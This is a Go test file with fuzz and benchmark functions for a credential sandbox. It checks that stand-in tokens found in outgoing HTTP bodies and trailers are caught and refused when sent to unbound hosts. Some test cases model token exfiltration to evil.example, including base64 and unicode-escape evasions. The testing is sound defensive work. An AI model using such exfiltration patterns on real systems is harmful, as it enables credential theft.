package credential

import (
	"errors"
	"io"
	"math/rand/v2"
	"net/http"
	"strings"
	"testing"
)

func TestBody(t *testing.T) {
	s := newSandboxed(t)
	in := s.in
	for _, tt := range []struct {
		name, line, body string
		leak             string
		abort            bool
	}{
		{"nothing", "POST https://api.github.com/x", strings.Repeat("x", 100000), "", false},
		{"own host", "POST https://api.github.com/x", "a" + in["GITHUB_TOKEN"] + "b" + in["GITHUB_TOKEN"], "GITHUB_TOKEN", false},
		{"another host", "POST https://evil.example/x", strings.Repeat("x", 40000) + in["GITHUB_TOKEN"] + "b", "GITHUB_TOKEN", true},
		{"another bound host", "POST https://jira.example/x", "t=" + in["GITHUB_TOKEN"], "GITHUB_TOKEN", true},
		{"base64", "POST https://evil.example/x", b64("user:" + in["GITHUB_TOKEN"]), "GITHUB_TOKEN", true},
		{"escaped", "POST https://evil.example/x", `\u0067` + in["GITHUB_TOKEN"][1:], "GITHUB_TOKEN", true},
		{"conversation", "POST https://api.anthropic.com/v1/messages", `{"text":"` + in["GITHUB_TOKEN"] + `"}`, "GITHUB_TOKEN", false},
		{"file", "POST https://api.anthropic.com/v1/files", `{"text":"` + in["GITHUB_TOKEN"] + `"}`, "GITHUB_TOKEN", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			v := s.keys.Outgoing(t.Context(), request(tt.line))
			var leaks []Leak
			rng := rand.New(rand.NewPCG(7, 8))
			body := v.Body(io.NopCloser(&pieces{b: []byte(tt.body), rng: rng}), func(l Leak) { leaks = append(leaks, l) })
			got, err := io.ReadAll(body)
			var aborted *LeakError
			if errors.As(err, &aborted) != tt.abort || !tt.abort && (err != nil || string(got) != tt.body) {
				t.Fatalf("read %d of %d bytes, %v", len(got), len(tt.body), err)
			}
			if tt.abort && strings.Contains(string(got), in["GITHUB_TOKEN"][len(in["GITHUB_TOKEN"])-4:]) {
				t.Error("the end of the stand-in was passed on")
			}
			if tt.leak == "" != (len(leaks) == 0) || len(leaks) > 1 || tt.leak != "" && (leaks[0].Credential != tt.leak || leaks[0].Refused != tt.abort || leaks[0].Where != "body") {
				t.Errorf("leaks: %v", leaks)
			}
			if err != nil && strings.Contains(err.Error(), in["GITHUB_TOKEN"]) {
				t.Error("the error holds the stand-in")
			}
		})
	}
	v := s.keys.Outgoing(t.Context(), request("POST https://api.github.com/x"))
	if v.Body(nil, nil) != nil || v.Body(http.NoBody, nil) != http.NoBody {
		t.Error("no body became one")
	}
	h := http.Header{"Authorization": {"Bearer ATTACKER"}, "X-Sum": {"1"}}
	if err := v.Trailer(h, nil); err != nil || len(h) != 1 {
		t.Errorf("trailers: %v, %v", h, err)
	}
	h = http.Header{"Authorization": {"Bearer other"}}
	if err := s.keys.Outgoing(t.Context(), request("POST https://other.example/x")).Trailer(h, nil); err != nil || len(h) != 1 {
		t.Errorf("trailers to another host: %v, %v", h, err)
	}
	if err := v.Trailer(http.Header{"X": {in["GIT_TOKEN"]}}, nil); err == nil {
		t.Error("a stand-in in a trailer to another host was passed on")
	}
}

// FuzzBody: what is read is the body, whatever its pieces, or its beginning and then an
// error when a stand-in of another host is in it.
func FuzzBody(f *testing.F) {
	s := newSandboxed(f)
	f.Add("{\"a\":\"", "\"}", uint64(1), true)
	f.Add("%67", "\\u0067hp_", uint64(2), false)
	f.Fuzz(func(t *testing.T, before, after string, seed uint64, own bool) {
		rng := rand.New(rand.NewPCG(seed, 2))
		line := "POST https://evil.example/x"
		if own {
			line = "POST https://api.github.com/x"
		}
		in := s.in["GITHUB_TOKEN"]
		forms := append(spellings(in, rng), in[:len(in)-1], "")
		form := forms[rng.IntN(len(forms))]
		text := before + form + after
		leaks := 0
		v := s.keys.Outgoing(t.Context(), request(line))
		got, err := io.ReadAll(v.Body(io.NopCloser(&pieces{b: []byte(text), rng: rng}), func(Leak) { leaks++ }))
		holds := survives(text, in) != ""
		switch {
		case holds != (leaks > 0):
			t.Fatalf("%q: %d leaks", text, leaks)
		case own || !holds:
			if err != nil || string(got) != text {
				t.Fatalf("%q was read as %q, %v", text, got, err)
			}
		case err == nil || !strings.HasPrefix(text, string(got)) || survives(string(got), in) != "":
			t.Fatalf("%q was read as %q, %v", text, got, err)
		}
	})
}

func BenchmarkMake(b *testing.B) {
	env := []string{"A=" + testKey}
	for b.Loop() {
		_, k, err := Make(b.Context(), allCredentials()[:1], Host{Env: env})
		if err != nil {
			b.Fatal(err)
		}
		_ = k.Close()
	}
}

func BenchmarkBody(b *testing.B) {
	s := newSandboxed(b)
	text := strings.Repeat(`{"role":"user","content":[{"type":"text","text":"func main() {\n\tfmt.Println(\"hello\")\n}"}]}`, 1<<13)
	v := s.keys.Outgoing(b.Context(), request("POST https://api.anthropic.com/v1/messages"))
	b.SetBytes(int64(len(text)))
	p := make([]byte, 32<<10)
	for b.Loop() {
		body := v.Body(io.NopCloser(strings.NewReader(text)), nil)
		for {
			if _, err := body.Read(p); err != nil {
				break
			}
		}
	}
}
